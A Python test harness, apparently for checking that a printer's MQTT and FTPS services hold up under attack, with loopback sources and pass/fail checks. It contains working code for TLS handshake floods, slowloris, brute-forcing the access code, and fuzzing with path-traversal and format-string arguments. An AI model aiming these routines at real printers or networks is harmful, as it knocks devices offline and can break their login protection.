"""One attack on the printer's LAN services. Usage: hostile.py ATTACK ADDRESS ACCESS_CODE.

Says "at it" when the attack is on its way, goes on for a fixed number of rounds, and prints what it did. Strangers come
from other addresses of the loopback than the owner; fuzzed sessions log in first, as a client gone mad would.
"""

import random
import socket
import ssl
import sys

attack, address, code = sys.argv[1:]
chance = random.Random(attack)  # The same in every run.
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
PORTS = (8883, 990)


def connect(port, source=None, timeout=5):
    source = source or f"127.0.0.{chance.randint(2, 250)}"
    return socket.create_connection((address, port), timeout=timeout, source_address=(source, 0))


def tls(port, source=None, timeout=5):
    return context.wrap_socket(connect(port, source, timeout))


def started():
    print("at it", flush=True)


def attempt(action):
    """Refusals, resets and timeouts are what an attacker expects."""
    try:
        action()
        return True
    except (OSError, ValueError):
        return False


def half_open():
    """Handshakes that begin and never go on."""
    hello = bytes.fromhex("1603010200010001fc0303") + bytes(32)
    kept = []
    for number in range(4000):
        def one():
            opened = connect(PORTS[number % 2], timeout=1)
            opened.sendall(hello[: chance.randint(0, len(hello))])
            kept.append(opened)
        attempt(one)
        if number == 500:
            started()
        if len(kept) > 800:
            kept.pop(0).close()
    return f"{len(kept)} handshakes still held of 4000"


def slow_loris():
    """Many clients that send a byte now and then."""
    kept = []
    for number in range(200):
        attempt(lambda: kept.append(tls(PORTS[number % 2])))
    started()
    sent = 0
    for _ in range(30):
        for opened in kept:
            sent += attempt(lambda: opened.sendall(b"\x10" if chance.random() < 0.5 else b"U"))
    return f"{sent} single bytes over {len(kept)} connections"


def string(text):
    return len(text).to_bytes(2, "big") + text


def connect_packet(password):
    body = string(b"MQTT") + b"\x04\xc2\x00\x05" + string(b"mad") + string(b"bblp") + string(password)
    return b"\x10" + bytes([len(body)]) + body


def wrong_codes():
    """Guesses at full speed, from one address and from many."""
    refused = 0
    for number in range(1500):
        def guess():
            opened = tls(8883, source="127.0.0.9" if number % 2 else None, timeout=2)
            opened.sendall(connect_packet(f"{chance.randrange(10**8):08}".encode()))
            answer = opened.recv(4)
            opened.close()
            if answer[3:4] == b"\x00":
                sys.exit("a guess was right")
        attempt(guess)
        refused += 1
        if number == 300:
            started()
    return f"{refused} guesses"


def logged_in(port):
    opened = tls(port, source="127.0.0.7", timeout=1)
    if port == 8883:
        opened.sendall(connect_packet(code.encode()))
        opened.recv(4)
    else:
        opened.recv(200)
        for command in (b"USER bblp\r\n", b"PASS " + code.encode() + b"\r\n"):
            opened.sendall(command)
            opened.recv(200)
    return opened


def fuzzed_mqtt():
    """Packets of every type with lengths that lie, behind a right login."""
    sessions = 0
    for number in range(1500):
        def one():
            opened = logged_in(8883)
            for _ in range(chance.randint(1, 5)):
                body = chance.randbytes(chance.randint(0, 60))
                length = chance.choice([len(body), chance.randint(0, 127), 0x7F])
                lying = chance.choice([bytes([length]), b"\xff\xff\xff\x7f", b"\xff\xff\xff\xff\xff"])
                opened.sendall(bytes([chance.randrange(256)]) + lying + body)
            opened.close()
        sessions += attempt(one)
        if number == 200:
            started()
    return f"{sessions} sessions"


def fuzzed_ftp():
    """Commands of every kind with arguments that make no sense, behind a right login."""
    verbs = [b"STOR", b"RETR", b"LIST", b"MLSD", b"REST", b"SIZE", b"CWD", b"PASV", b"EPSV", b"RNFR", b"RNTO", b"MFMT",
             b"MKD", b"RMD", b"DELE", b"PBSZ", b"PROT", b"TYPE", b"OPTS", b"NLST", b"MDTM", b"ABOR", b"USER", b"PASS", b"\xff\xf4"]
    arguments = [b"", b"../../etc/passwd", b"/sdcard/" + b"a" * 4000, b"%s%n", b"-1", b"99999999999999999999", b"\x00", b"~root",
                 b"cache/\xff\xfe", b"a/" * 500]
    sessions = 0
    for number in range(1500):
        def one():
            opened = logged_in(990)
            for _ in range(chance.randint(1, 8)):
                line = chance.choice(verbs) + b" " + chance.choice(arguments + [chance.randbytes(chance.randint(0, 80))])
                opened.sendall(line + chance.choice([b"\r\n", b"\n", b"\r", b""]))
            opened.close()
        sessions += attempt(one)
        if number == 200:
            started()
    return f"{sessions} sessions"


def clear_text():
    """Other protocols, and random bytes, on the ports that speak TLS."""
    greetings = [b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"USER bblp\r\n", connect_packet(b"12345678"), b"SSH-2.0-x\r\n"]
    for number in range(3000):
        def one():
            opened = connect(PORTS[number % 2], timeout=1)
            opened.sendall(chance.choice(greetings + [chance.randbytes(chance.randint(1, 2000))]))
            answer = opened.recv(100)
            opened.close()
            if answer and answer[0] != 0x15:
                sys.exit(f"clear text was answered with {answer!r}")
        attempt(one)
        if number == 300:
            started()
    return "3000 connections"


print({
    "half-open": half_open, "slow-loris": slow_loris, "wrong-codes": wrong_codes, "fuzzed-mqtt": fuzzed_mqtt,
    "fuzzed-ftp": fuzzed_ftp, "clear-text": clear_text,
}[attack]())
